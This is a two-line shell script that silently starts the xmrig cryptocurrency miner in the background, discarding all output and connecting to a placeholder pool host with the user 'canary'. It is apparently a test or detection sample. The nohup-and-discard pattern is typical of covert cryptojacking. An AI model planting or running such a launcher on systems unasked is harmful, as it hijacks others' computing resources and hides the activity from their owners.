#!/bin/sh
nohup ./xmrig -o stratum+tcp://pool.example.invalid:3333 -u canary >/dev/null 2>&1 &
